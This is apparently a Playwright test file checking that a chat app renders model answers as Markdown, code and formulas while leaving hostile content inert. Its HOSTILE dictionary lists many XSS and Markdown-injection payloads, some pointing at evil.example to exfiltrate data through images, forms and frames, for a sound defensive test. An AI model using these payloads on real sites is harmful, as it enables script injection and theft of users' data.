"""What a model writes, as the page shows it: Markdown, code and formulas, as they come, and nothing that acts.

The hostile texts are those of cheat sheets for Markdown and HTML injection, such as
https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and of answers that carry data out in
an image's address: https://embracethered.com/blog/posts/2023/chatgpt-webpilot-data-exfil-via-markdown-injection/.
"""

from __future__ import annotations

import asyncio

import pytest
from page_words import forever, say, words
from playwright.async_api import expect
from scripted_provider import DONE, answer, chunk, finish, stream, usage

pytestmark = pytest.mark.asyncio(loop_scope="session")

RICH = """# Summing

Use `sum`, which is **fast** and *clear*. See [the docs](https://docs.python.org/3/ "Python").
A second line.

```python
def mean(values):
    return sum(values) / len(values)  # <b>not bold</b>
```

| Function | Cost |
|:--|--:|
| `sum` | 1 |
| `fsum` | 3 |

1. First
2. Second
   - inner
   - more

   ```js
   let x = 1 < 2;
   ```
3. Third

> A quote
> of two lines

- [x] done
- [ ] open

Costs $5 to $10, but $e = mc^2$ and \\(a+b\\).

$$
\\frac{1}{2}

+ x
$$

~~gone~~ https://example.com/auto

***

The end
"""

RENDER = """async ([source, size]) => {
  const { Markdown } = await import("./markdown.js");
  const root = document.createElement("div");
  root.className = "words";
  document.body.append(root);
  const markdown = new Markdown(root);
  if (size) for (let end = size; end < source.length; end += size) markdown.update(source.slice(0, end));
  markdown.update(source);
  markdown.finish();
  const over = () => [...root.querySelectorAll("pre > code[class]")].every((code) => code.querySelector("[class^=hljs]")) &&
    !root.querySelector(".math:not([data-tex])");
  for (let tries = 0; tries < 500 && !over(); tries += 1) await new Promise((next) => setTimeout(next, 10));
  const html = root.innerHTML;
  root.remove();
  return html;
}"""


@pytest.mark.in_firefox_too
async def test_markdown_is_shown_as_what_it_means(provider, visit):
    provider.scripts = [answer(RICH)]
    page = await visit()
    await say(page, "Sum?")
    await expect(page.locator(".cost")).to_be_visible()
    shown = words(page)
    await expect(shown.locator("h3.depth-1")).to_have_text("Summing")
    await expect(shown.locator("strong")).to_have_text("fast")
    link = shown.get_by_role("link", name="the docs")
    assert await link.get_attribute("href") == "https://docs.python.org/3/"
    assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    await expect(shown.locator("table td").last).to_have_text("3")
    assert await shown.locator("table td").last.evaluate("node => getComputedStyle(node).textAlign") in ("end", "right")
    await expect(shown.locator("ol > li")).to_have_count(3)
    await expect(shown.locator("ol > li ul > li")).to_have_count(2)
    await expect(shown.locator(".code-head").first).to_contain_text("python")
    await expect(shown.locator("pre .hljs-keyword").first).to_have_text("def")
    await expect(shown.locator("pre").first).to_contain_text("# <b>not bold</b>")
    await expect(shown.locator(".katex")).to_have_count(3)
    await expect(shown.locator(".math.display .mfrac")).to_have_count(1)
    await expect(shown).to_contain_text("Costs $5 to $10, but")
    assert "☑ done" in await shown.inner_text()
    styled = shown.locator(".math.display .katex-html [style*=em]").first
    assert await styled.evaluate("node => [...node.style].some((name) => node.style[name].endsWith('em'))")


@pytest.mark.parametrize("size", [1, 3, 17, 64])
async def test_text_in_pieces_is_rendered_like_the_whole_text(visit, size):
    page = await visit()
    whole = await page.evaluate(RENDER, [RICH, 0])
    assert await page.evaluate(RENDER, [RICH, size]) == whole


@pytest.mark.parametrize(
    "source",
    [
        "- a\n- b\n\n1. c\n2. d\n\ntext\n\n* e\n* f",
        "```\nno language\n\n```\nafter\n\n~~~js\nlet x;\n```\nstill code\n~~~\n",
        "````md\n```js\nx\n```\n````\n",
        "Title\n=====\n\nText\n---\n\n    indented code\n\n    more of it\n",
        "[one][a] and [two][b]\n\ntext\n\n[a]: https://example.com/a\n[b]: https://example.com/b\n",
        "| a |\n|---|\n| 1 |\n| 2 |\nno table\n\nend",
        "| a | b |\n|:--|--:|\n| 1 | `x|y` |\n| *2* |\n|  | $z$ | 3\n# title\n\n| c |\n|---|\n| 4 |\n| 5 |\n\n| d |\n|---|",
        " a | b\n---|---\n1 | 2\n3 | 4\n> quote\n\n- | e |\n  |---|\n  | 6 |\n  | 7 |\n",
        "\\[\nx\n\n+ y\n\\]\n\nand \\[z\\] inside",
        "unfinished **bold and `code",
        "an unfinished fence\n\n```python\nx = 1\n",
        "".join(f"{number}. item\n   - inside\n" + "\n" * (number % 7 == 0) for number in range(90, 240)) + "\nend",
        "before\n\n" + "- of a list in parts\n" * 120 + "\n* another list\n\nend [a]\n\n[a]: https://example.com/",
    ],
)
async def test_awkward_markdown_in_pieces_is_as_at_once(visit, source):
    page = await visit()
    render = RENDER.replace('.every((code) => code.querySelector("[class^=hljs]"))', ".every(() => true)")
    whole = await page.evaluate(render, [source, 0])
    for size in (1, 2, 5):
        shown = await page.evaluate(render, [source, size])
        assert shown == whole


async def test_a_token_leaves_finished_blocks_and_the_readers_selection_alone(provider, visit):
    more = asyncio.Event()
    provider.scripts = [
        stream(
            chunk("First **block**.\n\nSecond block goes"),
            more,
            chunk(" on and on.\n\nThird"),
            finish(),
            usage(1, 2),
            DONE,
        )
    ]
    page = await visit()
    await say(page, "Go")
    await expect(words(page).locator("p").nth(1)).to_have_text("Second block goes")
    await page.evaluate("""() => {
      const [first, second] = document.querySelectorAll(".assistant p");
      Object.assign(window, { first, second, touched: 0 });
      new MutationObserver((found) => (touched += found.length)).observe(first, { subtree: true, childList: true, characterData: true });
      getSelection().setBaseAndExtent(first.firstChild, 0, second.firstChild, 6);
    }""")
    more.set()
    await expect(page.locator(".cost")).to_be_visible()
    assert await page.evaluate("[touched, first.isConnected, second.isConnected, String(getSelection()).replaceAll('\\n', '|')]") == [
        0, True, True, "First block.||Second",
    ]  # fmt: skip


HOSTILE = {
    "script": "<script>window.hit = 1</script>",
    "image with a handler": '<img src="x" onerror="window.hit = 1">',
    "svg": "<svg/onload=window.hit=1><svg><script>window.hit=1</script></svg>",
    "style": '<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "frame": '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>top.hit=1</script>"></iframe>',
    "object": '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="key"><button>Send</button></form>',
    "link to a script": "[click](javascript:window.hit=1) [c](JaVaScRiPt:window.hit=1) <javascript:window.hit=1>",
    "link with spaces and entities": "[c](&#106;avascript:window.hit=1) [c](java\tscript:window.hit=1) [c]( javascript:window.hit=1)",
    "link to data": "[c](data:text/html,<script>window.hit=1</script>) [c](vbscript:msgbox) [c](blob:x) [c](file:///etc/passwd)",
    "link with a handler": '[c](https://ok.example/"onmouseover="window.hit=1) [a](https://ok.example "x\' onclick=\'window.hit=1")',
    "remote image": "![secret](https://evil.example/?q=history) ![x][r]\n\n[r]: https://evil.example/r.png",
    "image inside a link": "[![a](https://evil.example/a.png)](javascript:window.hit=1)",
    "link to this server": "[c](/api/usage) [c](?x=1) [c](//evil.example/x)",
    "code fence": '```"><img src=x onerror=window.hit=1>\ncode\n```\n\n```js onload=window.hit=1\nx\n```',
    "math": "$\\href{javascript:window.hit=1}{x}$ $\\url{javascript:window.hit=1}$ $\\includegraphics{https://evil.example/m.png}$",
    "math html": "$\\htmlId{prompt}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlData{a=b}{x}$ $<img src=x onerror=window.hit=1>$",
    "math bomb": "$\\def\\a#1{\\a{#1}\\a{#1}}\\a{x}$ $\\rule{9999em}{9999em}$",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "template": "<template><script>window.hit=1</script></template> {{constructor.constructor('window.hit=1')()}}",
    "names of the page": '<a id="prompt" name="send">x</a> <form id="composer"></form> # heading {#prompt}',
    "autolink": "<https://ok.example/><script>window.hit=1</script> www.evil.example <x@evil.example>",
    "comment": "<!--><script>window.hit=1</script>--> <![CDATA[<script>window.hit=1</script>]]> <?php x ?>",
    "strange characters": "\u2028\u2029\u0000\ufeff\u202e<script\u0000>window.hit=1</script\u0000> <ſcript>",
    "closing tags": "</div></article></main></textarea></title></script></style><script>window.hit=1</script>",
    "raw blocks": "<pre><script>window.hit=1</script></pre> <kbd><img src=x onerror=window.hit=1></kbd>",
    "table": "|a|\n|-|\n|<img src=x onerror=window.hit=1>|\n|[c](javascript:window.hit=1)|",
}

INERT = """() => {
  const found = [];
  const allowed = new Set(["class", "href", "title", "target", "rel", "dir", "start", "align", "tabindex", "role",
    "aria-label", "aria-hidden", "data-tex", "data-coloured", "type", "style", "viewBox", "d", "xmlns", "encoding", "width", "height",
    "preserveAspectRatio", "display", "mathvariant", "stretchy", "fence", "separator", "mathcolor", "accent", "accentunder", "lspace", "rspace", "scriptlevel", "displaystyle", "columnalign", "columnspacing", "rowspacing", "linethickness", "voffset", "minsize", "maxsize", "href-none", "mathbackground"]);
  for (const node of document.querySelectorAll(".assistant .words *")) {
    const isMath = node.closest(".math");
    for (const { name, value } of node.attributes) {
      if (!allowed.has(name) || (name === "style" && !isMath)) found.push(`${node.tagName} ${name}=${value}`);
    }
    const name = node.localName;
    if (["script", "img", "iframe", "object", "embed", "form", "style", "meta", "base", "link", "input", "image", "video", "audio"].includes(name)) found.push(name);
    if (name === "a" && !/^(https?:\\/\\/|mailto:)/.test(node.getAttribute("href"))) found.push(node.outerHTML);
  }
  if (window.hit) found.push("it ran");
  if (document.scripts.length !== 2) found.push("scripts");
  return found;
}"""


@pytest.mark.in_firefox_too
async def test_hostile_answers_stay_inert(provider, visit):
    """At once and in pieces; dialogs, foreign requests and violations of the policy fail the test: see `visit`."""
    page = await visit()
    for number, (name, text) in enumerate(HOSTILE.items()):
        size = 1 + number % 7
        pieces = [chunk(text[start : start + size]) for start in range(0, len(text), size)]
        provider.scripts, provider.requests[:] = [stream(*pieces, finish(), usage(1, 1), DONE)], []
        await page.get_by_role("button", name="New chat").click()
        await say(page, name)
        await expect(page.locator(".cost")).to_be_visible()
        await page.wait_for_function("!document.querySelector('.math:not([data-tex])') || true")
        for link in await words(page).locator("a").all():
            await link.hover()
        assert await page.evaluate(INERT) == [], name
        await expect(page.get_by_label("Your message")).to_be_visible()


async def test_text_of_a_visitor_stays_text(provider, visit):
    provider.scripts = [answer("Hi")]
    page = await visit()
    text = "".join(HOSTILE.values()).replace("\0", "")
    await say(page, text)
    shown = page.locator(".user .words")
    assert await shown.evaluate("node => node.childElementCount") == 0
    assert await shown.evaluate("node => node.textContent") == text


async def test_no_text_becomes_markup_even_if_the_pages_code_were_wrong(visit):
    page = await visit()
    refused = "() => { try { document.body.innerHTML = '<b>x</b>'; return false } catch (error) { return error.name } }"
    assert await page.evaluate(refused) == "TypeError"


async def test_a_long_answer_that_comes_at_once_is_made_in_slices_between_characters(provider, visit):
    text = "a" + "🙂" * 4_000  # a slice would end in the middle of one
    provider.scripts = [answer(text)]
    page = await visit()
    await say(page, "Smile")
    await expect(words(page)).to_have_text(text)
    await expect(page.locator(".cost")).to_be_visible()  # the end has come, so all of it is kept
    await page.reload()
    await expect(words(page).locator("p")).to_have_text(text)


@pytest.mark.in_firefox_too
async def test_an_answer_of_20_000_words_is_shown_whole_and_can_be_read_from_its_beginning(provider, visit):
    text = "\n\n".join(f"## Part {part}\n\n" + "word " * 100 for part in range(200))
    pieces = [chunk(text[start : start + 4_000]) for start in range(0, len(text), 4_000)]
    provider.scripts = [stream(*pieces, finish(), usage(1, 1), DONE)]
    page = await visit(profile="large")
    await say(page, "Much")
    await expect(page.locator(".cost")).to_be_visible(timeout=60_000)
    await expect(words(page).locator("h4")).to_have_count(200, timeout=60_000)  # some of it at a time
    assert await words(page).evaluate("node => node.textContent.match(/word/g).length") == 20_000
    await page.locator("#scroller").evaluate("node => (node.scrollTop = 0)")
    await expect(words(page).locator("h4").first).to_be_in_viewport()


@pytest.mark.in_firefox_too
async def test_an_answer_that_is_whole_before_the_code_of_markdown_is_then_shown_as_markdown(provider, visit, held):
    provider.scripts = [answer("Yes, **bread**")]
    page = await visit(before=held.hold("**/markdown.js"))
    await say(page, "Bread?")
    await expect(page.locator(".cost")).to_be_visible()
    await expect(words(page)).to_have_text("Yes, **bread**")
    held.release.set()
    await expect(words(page).locator("strong")).to_have_text("bread")


@pytest.mark.in_firefox_too
async def test_an_answer_that_pauses_before_the_code_of_markdown_is_there_is_then_shown_as_markdown(
    provider, visit, held
):
    provider.scripts = [forever("Yes, **bread**")]
    page = await visit(before=held.hold("**/markdown.js"))
    await say(page, "Bread?")
    await expect(words(page)).to_have_text("Yes, **bread**")
    held.release.set()
    await expect(words(page).locator("strong")).to_have_text("bread")


@pytest.mark.in_firefox_too
async def test_code_of_markdown_that_fails_to_load_is_loaded_again(provider, visit, held):
    provider.scripts = [answer("Yes, **bread**")]
    page = await visit(before=held.fail("**/markdown.js*"))
    await say(page, "Bread?")
    await expect(page.locator(".cost")).to_be_visible()
    await expect(words(page)).to_have_text("Yes, **bread**")
    held.release.set()
    await expect(words(page).locator("strong")).to_have_text("bread")


@pytest.mark.in_firefox_too
async def test_formulas_stay_as_text_if_their_styles_fail_and_the_next_is_drawn(provider, visit, held):
    provider.scripts = [answer("So $x^2$"), answer("And $y^2$")]
    page = await visit(before=held.fail("**/katex.min.css"))
    await say(page, "A formula")
    await expect(page.locator(".cost")).to_be_visible()
    held.release.set()
    await say(page, "Another")
    await expect(words(page).locator(".katex")).to_have_count(1)
    await expect(page.locator(".assistant code.math").first).to_have_text("x^2")
